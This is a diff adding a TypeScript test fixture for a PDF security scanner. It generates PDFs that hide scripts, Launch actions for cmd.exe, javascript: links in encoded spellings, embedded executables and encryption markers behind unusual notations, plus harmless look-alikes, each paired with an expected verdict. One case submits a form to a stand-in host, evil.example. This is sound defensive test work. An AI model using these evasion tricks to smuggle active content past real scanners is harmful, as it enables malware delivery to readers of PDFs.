@@ -1,0 +1,196 @@
+// PDFs with forbidden contents in unusual notations, and harmless ones with the same notations or words.
+import { createHash } from 'node:crypto'
+import { deflateRawSync, deflateSync } from 'node:zlib'
+import type { ScanVerdict } from '../../../server/document/pdf/findings.ts'
+import { alert, document, packedPdf, stream } from './hostile-pdfs.ts'
+
+/** The catalog does not refer to it: the scan must find it by the objects themselves. */
+const bookmark = `/Outlines << /First << /A ${alert} >> >>`
+const packed = (dictionary: string, pack: (text: Buffer) => Buffer = deflateSync, other = 'null') =>
+  packedPdf(bookmark, '', { dictionary, pack, other })
+const link = (action: string, ...others: (string | Buffer)[]) =>
+  document('', `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`, ...others)
+const to = (target: string) => link(`<< /S /URI /URI ${target} >>`)
+
+const SIZES = '/N 1 /First 4'
+const FLATE = '/Filter /FlateDecode'
+const OBJ_STM = `/Type /ObjStm ${SIZES}`
+
+const COLUMNS = 8
+const rowsOf = (text: Buffer) =>
+  Array.from({ length: Math.ceil(text.length / COLUMNS) }, (_, row) =>
+    Buffer.concat([text, Buffer.alloc(COLUMNS, ' ')]).subarray(row * COLUMNS, (row + 1) * COLUMNS),
+  )
+
+/** The rows of a PNG, each encoded with the next of the five filters. */
+function pngRows(text: Buffer): Buffer {
+  const rows = rowsOf(text)
+  const coded = rows.map((row, number) => {
+    const above = rows[number - 1] ?? Buffer.alloc(COLUMNS)
+    const kind = number % 5
+    const made = row.map((byte, at) => byte - foretold(kind, row[at - 1] ?? 0, above[at] ?? 0, above[at - 1] ?? 0))
+    return Buffer.concat([Buffer.from([kind]), made])
+  })
+  return deflateSync(Buffer.concat(coded))
+}
+
+function foretold(kind: number, left: number, up: number, corner: number): number {
+  const nearest = [left, up, corner].sort(
+    (one, other) => Math.abs(left + up - corner - one) - Math.abs(left + up - corner - other),
+  )
+  return [0, left, up, Math.floor((left + up) / 2), nearest[0] ?? 0][kind] ?? 0
+}
+
+const tiffRows = (text: Buffer) =>
+  deflateSync(Buffer.concat(rowsOf(text).map((row) => row.map((byte, at) => byte - (row[at - 1] ?? 0)))))
+
+const PRETENDED_END = '1 0 %endstream endstream\n'
+
+/** The word that ends a stream, inside the compressed data, in an uncompressed block. */
+function storedEnd(text: Buffer): Buffer {
+  const block = Buffer.alloc(5)
+  block.writeUInt16LE(PRETENDED_END.length, 1)
+  block.writeUInt16LE(0xffff - PRETENDED_END.length, 3)
+  const rest = deflateRawSync(text.subarray('1 0 '.length))
+  return Buffer.concat([Buffer.from([0x78, 0x9c]), block, Buffer.from(PRETENDED_END), rest, Buffer.alloc(4)])
+}
+
+/** After a string that never ends for a sequential reader; its offset is in the header. */
+const shifted = (text: Buffer) => deflateSync(Buffer.concat([Buffer.from('1 1 ('), text.subarray('1 0 '.length)]))
+
+const scrambled = (text: Buffer) =>
+  Buffer.concat([createHash('sha512').update(text).digest(), createHash('sha512').update('2').digest()])
+
+const encrypted = (word: string) =>
+  Buffer.from(
+    packed(`${OBJ_STM}`, scrambled, '<< /Filter /Standard /V 1 /R 2 /P -4 >>')
+      .toString('latin1')
+      .replace('/Root 1 0 R', `/Root 1 0 R ${word} 6 0 R`),
+    'latin1',
+  )
+
+const FILE = '<< /Type /Filespec /F (nota.exe) /EF << /F 4 0 R >> >>'
+const program = stream('', Buffer.from('MZ'))
+
+/** The way in which each hides its content, and the expected result. */
+export const DISGUISED_PDFS: readonly (readonly [how: string, verdict: ScanVerdict, bytes: Buffer])[] = [
+  // Object streams.
+  [
+    'rows of a PNG in an object stream',
+    'scripted',
+    packed(`${OBJ_STM} ${FLATE} /DecodeParms << /Predictor 11 /Columns 8 >>`, pngRows),
+  ],
+  [
+    'rows of a TIFF in an object stream',
+    'scripted',
+    packed(`${OBJ_STM} ${FLATE} /DecodeParms [<< /Predictor 2 /Columns 8 >>]`, tiffRows),
+  ],
+  ['a predictor that there is not', 'broken', packed(`${OBJ_STM} ${FLATE} /DecodeParms << /Predictor 7 >>`)],
+  ['a predictor elsewhere', 'broken', packed(`${OBJ_STM} ${FLATE} /DecodeParms 6 0 R`, deflateSync, '<< >>')],
+  ['the word «stream» in a comment', 'scripted', packed(`${OBJ_STM} % stream\n ${FLATE}`)],
+  ['the word «stream» in a text', 'scripted', packed(`${OBJ_STM} /X (stream endstream) ${FLATE}`)],
+  ['an object stream without a type', 'scripted', packed(`${SIZES} ${FLATE}`)],
+  ['an object stream of another type', 'scripted', packed(`/Type /XObject ${SIZES} ${FLATE}`)],
+  [
+    'an object stream whose type is elsewhere',
+    'scripted',
+    packed(`/Type 6 0 R ${SIZES} ${FLATE}`, deflateSync, '/ObjStm'),
+  ],
+  [
+    'the end of a stream in stored data',
+    'scripted',
+    packed(`/Type /ObjStm /N 1 /First ${PRETENDED_END.length} ${FLATE}`, storedEnd),
+  ],
+  [
+    'two filters behind the word «obj»',
+    'broken',
+    packed(`/Filter [/ASCIIHexDecode /FlateDecode] % obj\n ${OBJ_STM}`, (text) =>
+      Buffer.from(`${deflateSync(text).toString('hex')}>`),
+    ),
+  ],
+  ['two filters under two names', 'broken', packed(`${OBJ_STM} ${FLATE} /F /ASCIIHexDecode`)],
+  ['two filters under one name', 'broken', packed(`${OBJ_STM} /Filter /ASCIIHexDecode ${FLATE}`)],
+  ['a filter elsewhere', 'broken', packed(`${OBJ_STM} /Filter 6 0 R`, deflateSync, '/FlateDecode')],
+  ['a number of objects elsewhere', 'broken', packed(`/N 6 0 R /First 4 ${FLATE}`, deflateSync, '1')],
+  ['a dictionary that is no pairs', 'broken', packed(`7 8 ${OBJ_STM} ${FLATE}`)],
+  ['objects that are not packed', 'scripted', packed(OBJ_STM, (text) => text)],
+  ['an object behind a text without end', 'scripted', packed(`/N 1 /First 4 ${FLATE}`, shifted)],
+  // Objects and their delimiters.
+  ['an object inside a text', 'scripted', document('', '', `(3 0 obj << /A ${alert} >>`)],
+  ['an object inside a picture', 'scripted', document('', '', stream('', Buffer.from(`7 0 obj%\n<< /A ${alert} >>`)))],
+  ['an object behind a bracket that closes another', 'broken', document('', '', `<< /A [ >> >> ] ${alert}`)],
+  ['brackets without end', 'broken', document(`/X ${'['.repeat(100_000)}`)],
+  ['objects inside of one another', 'broken', document('', '', '1 0 obj ('.repeat(10_000))],
+  // Actions.
+  ['a comment before what is launched', 'scripted', link('<< /S%c\n/Launch /F (cmd.exe) >>')],
+  ['NUL before what is launched', 'scripted', link('<< /S\0/Launch /F (cmd.exe) >>')],
+  ['«Launch» elsewhere, of a link', 'scripted', link('<< /S 4 0 R /F (cmd.exe) >>', '/Launch')],
+  ['«Launch» elsewhere, at opening', 'scripted', document('/OpenAction << /S 4 0 R /F (cmd.exe) >>', '', '/Launch')],
+  ['«Launch» elsewhere, in an object stream', 'scripted', packedPdf('', ' /Launch')],
+  ['a comment before a rendition', 'scripted', link('<< /S%\n/Rendition /OP 0 /JS (app.alert\\(1\\)) >>')],
+  ['a script without its kind', 'scripted', document('/Names << /JavaScript << /Names [(a) << /JS (1) >>] >> >>')],
+  ['a comment before a form that is a program', 'scripted', document('/AcroForm << /XFA %c\n 4 0 R >>', '', program)],
+  ['a form that is sent', 'scripted', link('<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>')],
+  ['data that are fetched', 'scripted', link('<< /S /ImportData /F (x.fdf) >>')],
+  ['a file elsewhere', 'scripted', link('<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>')],
+  ['a file within', 'scripted', link('<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>')],
+  ['a folder of others', 'scripted', link('<< /S /Thread /F (\\\\\\\\evil\\\\share) >>')],
+  [
+    'a script of a model',
+    'scripted',
+    document('', '', stream('/Type /3D /Subtype /U3D /OnInstantiate 5 0 R', Buffer.from('U3D'))),
+  ],
+  ['a link to a script', 'scripted', to('(javascript:alert\\(1\\))')],
+  ['a link to a script in other letters', 'scripted', to('(\\152ava\\\nScript\\072alert)')],
+  ['a link to a script in numbers', 'scripted', to('<FEFF006A006100760061007300630072006900700074003A00310029>')],
+  ['a link to a script behind white space', 'scripted', to(`(${' '.repeat(500)}\t\\njavascript:1)`)],
+  ['a link to a script elsewhere', 'scripted', link('<< /S /URI /URI 4 0 R >>', '(javascript:alert)')],
+  ['a link to a file', 'scripted', to('(file:///c:/windows/system32/cmd.exe)')],
+  ['a link to a folder of others', 'scripted', to('(\\\\\\\\server\\\\share)')],
+  ['a link to a program’s own scheme', 'scripted', to('(ms-msdt:/id)')],
+  // Embedded files.
+  ['a file of a note', 'attached', document('', `/Annots [<< /Subtype /FileAttachment /FS ${FILE} >>]`, program)],
+  ['an associated file', 'attached', document(`/AF [${FILE}]`, '', program)],
+  [
+    'a file of a rich medium',
+    'scripted',
+    document(
+      '',
+      `/Annots [<< /Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) ${FILE}] >> >> >>]`,
+      program,
+    ),
+  ],
+  // Encryption.
+  ['a comment before the encryption', 'encrypted', encrypted('/Encrypt%x\n')],
+  ['an encryption that is spelt by numbers', 'encrypted', encrypted('/#45ncrypt')],
+]
+
+const WORDS = '/S /Launch /JavaScript /EmbeddedFile obj stream endstream << [ ('
+
+export const UNDISGUISED_PDFS: readonly (readonly [what: string, bytes: Buffer])[] = [
+  ['that writes of programs', document('', '', `<< /Title (${WORDS}\\() /About (javascript:) >>`)],
+  ['that has programs in a comment', document('', '', `null % ${WORDS} ${alert}`)],
+  ['with a transition called by a letter', document('', '/Trans << /S /R >>')],
+  ['with a stream of N and no objects', document('', '', stream('/N 3 /Alternate /DeviceRGB', Buffer.from('(')))],
+  ['with usage rights', document('', '', '<< /EF [/Create /Delete] /Annots [/Import] >>')],
+  ['without what it names', document('/AcroForm << /XFA null >>', '', '<< /Encrypt null >>')],
+  [
+    'with rows of a PNG',
+    packedPdf('', '', { dictionary: `${OBJ_STM} ${FLATE} /DecodeParms << /Predictor 12 /Columns 8 >>`, pack: pngRows }),
+  ],
+  ['with objects that are not packed', packedPdf('', '', { dictionary: OBJ_STM, pack: (text) => text })],
+  [
+    'with a title elsewhere, and a link elsewhere',
+    link('<< /S /URI /URI 4 0 R >>', '(https://sri.gob.ec)', '(Nota: nada)'),
+  ],
+  ...[
+    '(https://sri.gob.ec/?a=javascript:1)',
+    '(HTTP://sri.gob.ec)',
+    '(mailto:ana@ejemplo.ec)',
+    '(tel:+593 2 222)',
+    '(www.sri.gob.ec)',
+    '(ejemplo.ec:8080/a)',
+    '(#pagina=2)',
+    '()',
+  ].map((target) => [`with a link to ${target}`, to(target)] as const),
+]
